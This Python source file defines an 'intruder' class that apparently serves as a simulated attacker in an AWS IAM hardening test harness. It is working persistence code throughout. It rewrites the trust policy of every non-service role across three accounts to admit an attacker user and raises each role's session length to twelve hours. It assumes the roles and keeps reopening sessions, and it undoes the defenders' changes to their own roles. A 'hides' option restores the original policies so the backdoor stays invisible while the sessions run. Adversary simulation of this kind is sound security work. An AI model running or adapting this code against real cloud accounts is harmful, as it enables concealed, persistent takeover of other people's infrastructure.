# Copyright (c) 2026, hardening.iam contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The fourth intruder: enters the roles that others administer the accounts by, the run's own among them.

It lets itself into each role that it finds, and opens sessions as long as they can be. With ``hides`` it sets the trust
policies back at once, so that none of them shows it: the sessions go on.
"""

from __future__ import annotations

import functools
import json
import typing as t

from intruders.base import (
    DATA,
    DEPLOY,
    HOME,
    LOADER,
    PIPELINE,
    PROD,
    SHARED,
    USER_ARN,
    WAREHOUSE,
    Credential,
    Intruder,
    serve,
    wait_until,
)
from intruders.undoing import Undoing

_ENTRY: t.Final[t.Mapping[str, str]] = {HOME: PIPELINE, PROD: DEPLOY, DATA: WAREHOUSE}
_OWN: t.Final[t.Mapping[str, tuple[str, ...]]] = {
    HOME: (USER_ARN, PIPELINE, SHARED),
    PROD: (DEPLOY,),
    DATA: (WAREHOUSE, LOADER),
}
_KNOWN: t.Final = frozenset(role for own in _OWN.values() for role in own)


class RoleIntruder(Intruder):
    """Sessions of every role of the three accounts but those of AWS's services."""

    def __init__(self, url: str, *, hides: bool = False) -> None:
        super().__init__(url)
        self._hides = hides
        self._undoing = Undoing(self)
        #: the roles that it entered, by account
        self.entered: dict[str, list[str]] = {HOME: [], PROD: [], DATA: []}

    def prepare(self) -> None:
        """Enter the roles."""
        able = self.walk_chain()
        for account, entry in _ENTRY.items():
            self._undoing.remember(able[entry], *_OWN[account])
            for role in self._list_roles(able[entry]):
                self._enter(able[entry], able, role)
        wait_until(lambda: all(self.newest(*entered) for entered in self.entered.values()), seconds=10)

    def jobs(self) -> t.Iterable[tuple[t.Callable[[], object], float]]:
        """Undo with a session of each of them in turn, and open further ones."""
        for account, roles in self.entered.items():
            yield functools.partial(self._undo, account), 1.0
            if not self._hides:
                yield functools.partial(self._open_again, account, roles), 10.0

    def log_in_again(self, able: t.Sequence[Credential]) -> None:
        """Into the roles once more too."""
        super().log_in_again(able)
        for account, roles in self.entered.items():
            self._open_again(account, roles)

    def _list_roles(self, by: Credential) -> list[dict[str, t.Any]]:
        listed = self.call(by, "iam", "list_roles") or {}
        own = [role for role in listed.get("Roles", ()) if not role["Path"].startswith("/aws-service-role/")]
        return [role for role in own if role["Arn"] not in _KNOWN]

    def _enter(self, by: Credential, able: t.Mapping[str, Credential], role: dict[str, t.Any]) -> None:
        name, arn, before = role["RoleName"], role["Arn"], role["AssumeRolePolicyDocument"]
        # Its user, whose sessions last longest, and the role that it comes by.
        own = {"Effect": "Allow", "Principal": {"AWS": [USER_ARN, by.owner]}, "Action": "sts:AssumeRole"}
        opened = {"Version": "2012-10-17", "Statement": [*before["Statement"], own]}
        asked = {"RoleName": name, "PolicyDocument": json.dumps(opened)}
        if self.call(by, "iam", "update_assume_role_policy", **asked) is None:
            return
        self.call(by, "iam", "update_role", RoleName=name, MaxSessionDuration=43_200)
        self.assume(able[USER_ARN], arn, DurationSeconds=43_200)
        self.assume(by, arn)
        self.entered[arn.split(":")[4]].append(arn)
        if self._hides:
            self.call(by, "iam", "update_role", RoleName=name, MaxSessionDuration=role["MaxSessionDuration"])
            self.call(by, "iam", "update_assume_role_policy", RoleName=name, PolicyDocument=json.dumps(before))

    def _undo(self, account: str) -> None:
        """With the first of its sessions that still can change something."""
        for role in self.entered[account]:
            for credential in self.newest(role, most=1):
                if self._undoing.undo(credential, *_OWN[account]):
                    return

    def _open_again(self, account: str, roles: t.Sequence[str]) -> None:
        for credential in (*self.newest(USER_ARN, most=1), *self.newest(_ENTRY[account], most=1)):
            self.open_sessions(credential, roles)


if __name__ == "__main__":
    serve(RoleIntruder)
